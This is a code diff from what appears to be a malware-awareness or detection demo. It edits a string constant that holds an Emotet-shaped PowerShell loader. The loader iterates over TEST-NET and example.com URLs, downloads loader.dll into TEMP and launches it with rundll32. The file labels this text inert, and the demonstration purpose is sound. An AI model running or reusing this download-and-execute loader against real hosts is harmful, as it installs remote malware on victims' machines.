@@ -7,11 +7,11 @@
 /** Stage ⑤: what the macro's encoded PowerShell decodes to — an Emotet-shaped loader over a URL list. */
 export const DEMO_POWERSHELL = [
   '# emoguard demo: inert text. TEST-NET and example.com addresses; nothing is downloaded or run.',
-  "$urls = 'http://203.0.113.10/wp-content/demo/,https://invoice.example.com/demo/,http://198.51.100.23:8080/demo/'.Split(',')",
+  "$urls = 'http://203.0.113.10/wp-content/demo/loader.dll,https://invoice.example.com/demo/loader.dll,http://198.51.100.23:8080/demo/loader.dll'.Split(',')",
   '$out = "$env:TEMP\\emoguard-demo.dll"',
   'foreach ($u in $urls) {',
   '  try {',
-  "    (New-Object Net.WebClient).DownloadFile($u + 'loader.dll', $out)",
+  '    (New-Object Net.WebClient).DownloadFile($u, $out)',
   '    Start-Process rundll32.exe "$out,Control_RunDLL"',
   '    break',
   '  } catch {}',
